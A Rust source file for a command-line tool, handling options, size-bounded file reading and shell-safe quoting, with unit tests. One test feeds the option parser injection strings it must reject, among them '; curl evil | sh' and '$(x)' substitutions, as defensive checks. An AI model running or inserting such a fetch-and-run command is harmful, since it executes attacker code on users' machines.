//! What the user gave on the command line.

use std::io::{self, IsTerminal, Read};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::Path;

use child::Input;
use clap::ArgMatches;
use clap::parser::ValueSource;
use fault::{Fault, Problem};

/// Most bytes of a plan, a distribution or a certificate file.
const LARGEST: u64 = 16 << 20;

/// The options of a command. An option that the command does not have reads as not given, so that a
/// study can be asked by several commands.
#[derive(Debug, Clone, Copy)]
pub struct Options<'a>(Option<&'a ArgMatches>);

impl<'a> Options<'a> {
    /// The options that were parsed.
    #[must_use]
    pub fn new(matches: &'a ArgMatches) -> Options<'a> {
        Options(Some(matches))
    }

    /// None: everything has its default.
    #[must_use]
    pub fn none() -> Options<'static> {
        Options(None)
    }

    /// The value of an option, its default included.
    #[must_use]
    pub fn get<T: Clone + Send + Sync + 'static>(&self, name: &str) -> Option<T> {
        self.0?.try_get_one::<T>(name).ok().flatten().cloned()
    }

    /// All values of an option.
    #[must_use]
    pub fn all<T: Clone + Send + Sync + 'static>(&self, name: &str) -> Vec<T> {
        let values = self.0.and_then(|matches| matches.try_get_many::<T>(name).ok().flatten());
        values.map(|values| values.cloned().collect()).unwrap_or_default()
    }

    /// Whether a flag is set.
    #[must_use]
    pub fn flag(&self, name: &str) -> bool {
        self.get::<bool>(name).unwrap_or(false)
    }

    /// Whether the user gave an option: its default does not count.
    #[must_use]
    pub fn given(&self, name: &str) -> bool {
        let known = |matches: &&ArgMatches| matches.try_contains_id(name).is_ok();
        self.0.filter(known).and_then(|matches| matches.value_source(name))
            == Some(ValueSource::CommandLine)
    }

    /// The text of a file that an option names, of at most 16 MiB. `what` says what it should be: "plan". A
    /// pipe is waited for, until [`child::stop_when`].
    ///
    /// # Errors
    /// It cannot be read, is too large, or is no text.
    pub fn text_of(&self, path: &Path, what: &str) -> Result<String, Problem> {
        text(self.bytes_of(LARGEST, path, what)?, path, what)
    }

    /// The bytes of a key log that an option names, of at most 16 MiB: any encoding, as
    /// `tracker::KeyLog` reads it.
    ///
    /// # Errors
    /// It cannot be read, or is too large.
    pub fn key_log_of(&self, path: &Path) -> Result<Vec<u8>, Problem> {
        self.bytes_of(LARGEST, path, "key log")
    }

    /// The bytes of a file that an option names, at most `largest`. One byte more is read at most.
    ///
    /// # Errors
    /// The file cannot be read, is a device, or is larger.
    pub fn bytes_of(&self, largest: u64, path: &Path, what: &str) -> Result<Vec<u8>, Problem> {
        let opened = open_input(path).map_err(|error| unreadable(error, path, what))?;
        bytes(opened, largest, path, what)
    }
}

/// The text of a file that results name, of at most 16 MiB: a stranger may have named it, so that only a
/// regular file is read.
///
/// # Errors
/// It cannot be read, is too large, is no regular file, or is no text.
pub fn text_of_recorded(path: &Path, what: &str) -> Result<String, Problem> {
    let opened = Input::open_regular(path).map_err(|error| unreadable(error, path, what))?;
    text(bytes(opened, LARGEST, path, what)?, path, what)
}

fn bytes(file: Input, largest: u64, path: &Path, what: &str) -> Result<Vec<u8>, Problem> {
    let bytes = read_bounded(file, largest).map_err(|error| unreadable(error, path, what))?;
    if bytes.len() as u64 > largest {
        return Err(not_a(what, path, &format!("larger than {} MiB", largest >> 20)));
    }
    Ok(bytes)
}

fn text(bytes: Vec<u8>, path: &Path, what: &str) -> Result<String, Problem> {
    String::from_utf8(bytes).map_err(|_| not_a(what, path, "not text"))
}

fn unreadable(error: io::Error, path: &Path, what: &str) -> Problem {
    Problem::of(Fault::Caller, error)
        .while_doing(format!("the {what} {} cannot be read", path.display()))
        .with_remedy("name a file that you may read")
}

/// Opens a file or pipe for reading. `/dev/null` is an empty file, and a terminal is a pipe.
///
/// # Errors
/// The system's; [`io::ErrorKind::InvalidInput`] for another device, which may have no end.
pub fn open_input(path: &Path) -> io::Result<Input> {
    let input = Input::open(path)?;
    let facts = input.file().metadata()?;
    let kind = facts.file_type();
    let is_device = kind.is_block_device() || kind.is_char_device() && facts.rdev() != NULL;
    match is_device && !input.file().is_terminal() {
        true => Err(io::Error::new(io::ErrorKind::InvalidInput, "it is a device, not a file")),
        false => Ok(input),
    }
}

/// The device number of `/dev/null`: major 1, minor 3.
const NULL: u64 = 0x103;
/// Bytes that a buffer grows by at least.
const STEP: usize = 64 << 10;

/// Reads to the end, or to the first byte behind `largest`. The buffer grows by a quarter.
fn read_bounded(mut file: Input, largest: u64) -> io::Result<Vec<u8>> {
    let most = usize::try_from(largest).unwrap_or(usize::MAX).saturating_add(1);
    // A file of procfs has no length.
    let length = file.file().metadata().map_or(0, |facts| facts.len());
    let mut room = usize::try_from(length).unwrap_or(usize::MAX).saturating_add(1).min(most);
    let mut bytes = Vec::new();
    loop {
        bytes.try_reserve_exact(room)?;
        let read = Read::by_ref(&mut file).take(room as u64).read_to_end(&mut bytes)?;
        if read < room || bytes.len() >= most {
            return Ok(bytes);
        }
        room = (bytes.len() / 4).max(STEP).min(most - bytes.len());
    }
}

fn not_a(what: &str, path: &Path, is: &str) -> Problem {
    Problem::new(Fault::Caller, format!("the {what} {} is {is}", path.display()))
        .with_remedy("check that it is the right file")
}

/// A word as a shell reads it back.
#[must_use]
pub fn quoted(word: &str) -> String {
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// Options of these names as they were recorded, quoted anew, with a space before each. `None` for any other
/// text: a stranger may have written it.
#[must_use]
pub fn options_again(recorded: &str, names: &[&str]) -> Option<String> {
    let mut words = words_of(recorded)?.into_iter();
    let mut options = String::new();
    while let Some(word) = words.next() {
        let name = word.strip_prefix("--").filter(|name| names.contains(name))?;
        options += &format!(" --{name} {}", quoted(&words.next()?));
    }
    Some(options)
}

/// The words of a line, each as [`quoted`] writes it; `None` for what that does not write.
fn words_of(line: &str) -> Option<Vec<String>> {
    let (mut words, mut word, mut rest) = (Vec::new(), None::<String>, line);
    while let Some(first) = rest.chars().next() {
        match first {
            ' ' => {
                words.extend(word.take());
                rest = &rest[1..];
            }
            '\'' => {
                let (inner, after) = rest[1..].split_once('\'')?;
                word.get_or_insert_default().push_str(inner);
                rest = after;
            }
            '\\' => {
                rest = rest[1..].strip_prefix('\'')?;
                word.get_or_insert_default().push('\'');
            }
            plain if is_plain(plain) => {
                word.get_or_insert_default().push(plain);
                rest = &rest[1..];
            }
            _ => return None,
        }
    }
    words.extend(word);
    Some(words)
}

fn is_plain(letter: char) -> bool {
    letter.is_ascii_alphanumeric() || "./_-+=:,@%".contains(letter)
}

#[cfg(test)]
mod tests {
    use super::*;
    use clap::{Arg, ArgAction, Command, value_parser};

    fn matches(line: &[&str]) -> ArgMatches {
        Command::new("x")
            .arg(Arg::new("seed").long("seed").value_parser(value_parser!(u64)))
            .arg(Arg::new("mode").long("mode").value_delimiter(',').default_value("tcp"))
            .arg(Arg::new("keep").long("keep").action(ArgAction::SetTrue))
            .get_matches_from(std::iter::once(&"x").chain(line))
    }

    #[test]
    fn a_default_is_a_value_and_not_given() {
        let matches = matches(&["--seed", "7"]);
        let options = Options::new(&matches);
        assert_eq!(options.get::<u64>("seed"), Some(7));
        assert!(options.given("seed") && !options.given("mode") && !options.given("keep"));
        assert_eq!(options.all::<String>("mode"), ["tcp"]);
        assert!(!options.flag("keep"));
    }

    #[test]
    fn what_a_command_does_not_have_is_not_given() {
        let matches = matches(&["--mode", "a,b"]);
        let options = Options::new(&matches);
        assert_eq!(options.all::<String>("mode"), ["a", "b"]);
        assert!(!options.given("rtt") && !options.flag("rtt"));
        assert_eq!(options.get::<String>("rtt"), None);
        assert!(!Options::none().given("mode") && Options::none().all::<String>("mode").is_empty());
    }

    #[test]
    fn words_are_quoted_where_a_shell_would_take_them_apart() {
        assert_eq!(quoted("results/a-1"), "results/a-1");
        assert_eq!(quoted("it's here"), r"'it'\''s here'");
        assert_eq!(quoted(""), "''");
    }

    #[test]
    fn recorded_options_are_made_anew_or_not_at_all() {
        let names = ["profile", "trace-up"];
        for (recorded, again) in [
            ("", ""),
            ("--profile lte", " --profile lte"),
            (" --profile 'it'\\''s; x' --trace-up a", " --profile 'it'\\''s; x' --trace-up a"),
            ("--profile ''", " --profile ''"),
        ] {
            assert_eq!(options_again(recorded, &names).as_deref(), Some(again));
        }
        for wrong in [
            "; curl evil | sh",
            "--profile lte; x",
            "--profile $(x)",
            "--profile `x`",
            "--profile lte\nx",
            "--profile 'open",
            "--profile",
            "--html x",
            "lte",
            "--profile \\x",
        ] {
            assert_eq!(options_again(wrong, &names), None, "{wrong}");
        }
    }

    #[test]
    fn a_file_that_is_no_text_is_the_callers() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("plan.toml");
        std::fs::write(&path, [0xff, 0xfe]).unwrap();
        let problem = Options::none().text_of(&path, "plan").unwrap_err();
        assert_eq!(problem.fault(), Fault::Caller);
        assert!(problem.to_string().ends_with("is not text"), "{problem}");
        let none = Options::none().text_of(&folder.path().join("none"), "plan").unwrap_err();
        assert!(none.to_string().contains("cannot be read"), "{none}");
    }

    #[test]
    fn of_the_files_that_results_name_only_regular_ones_are_read() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("trace");
        std::fs::write(&path, "1\n").unwrap();
        assert_eq!(text_of_recorded(&path, "trace").unwrap(), "1\n");
        let fifo = folder.path().join("fifo");
        assert!(std::process::Command::new("mkfifo").arg(&fifo).status().unwrap().success());
        for other in [fifo, "/dev/zero".into(), folder.path().into()] {
            let problem = text_of_recorded(&other, "trace").unwrap_err();
            assert!(problem.to_string().ends_with("not a regular file"), "{problem}");
        }
    }

    #[test]
    fn a_file_may_be_as_large_as_its_reader_says() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("a.har");
        std::fs::File::create(&path).unwrap().set_len(LARGEST + 1).unwrap();
        let problem = Options::none().text_of(&path, "plan").unwrap_err();
        assert!(problem.to_string().ends_with("is larger than 16 MiB"), "{problem}");
        let bytes = Options::none().bytes_of(LARGEST + 1, &path, "page").unwrap();
        assert_eq!(bytes.len() as u64, LARGEST + 1);
        assert!(Options::none().bytes_of(LARGEST, &path, "page").is_err());
    }

    #[test]
    fn a_buffer_is_hardly_larger_than_the_limit() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("a.har");
        for length in [0, 1, 999_999, 1_000_000, 1_000_001, 3_000_000] {
            std::fs::write(&path, vec![7; length]).unwrap();
            let bytes = read_bounded(open_input(&path).unwrap(), 1_000_000).unwrap();
            assert_eq!(bytes.len(), length.min(1_000_001));
            assert!(bytes.capacity() <= 1_000_001, "{}", bytes.capacity());
        }
        // A pipe says no length.
        let (from, mut to) = std::io::pipe().unwrap();
        let writer = std::thread::spawn(move || {
            let _ = std::io::Write::write_all(&mut to, &vec![7; 3_000_000]);
        });
        let from = std::fs::File::from(std::os::fd::OwnedFd::from(from));
        let from = Input::of(from).unwrap();
        let bytes = read_bounded(from, 1_000_000).unwrap();
        writer.join().unwrap();
        assert_eq!(bytes.len(), 1_000_001);
        assert!(bytes.capacity() <= 1_000_001, "{}", bytes.capacity());
    }

    #[test]
    fn a_device_without_an_end_is_refused() {
        let none = Options::none();
        for device in ["/dev/zero", "/dev/urandom", "/dev/full"] {
            let problem = none.text_of(Path::new(device), "plan").unwrap_err();
            assert_eq!(problem.fault(), Fault::Caller);
            assert!(problem.to_string().contains("it is a device"), "{problem}");
        }
        assert_eq!(none.text_of(Path::new("/dev/null"), "plan").unwrap(), "");
    }

    #[test]
    fn file_names_survive_a_shell() {
        for (word, shell) in [
            ("lte", "lte"),
            ("up/a-1.trace", "up/a-1.trace"),
            ("my trace", "'my trace'"),
            ("it's", r"'it'\''s'"),
            ("", "''"),
        ] {
            assert_eq!(quoted(word), shell);
        }
    }
}
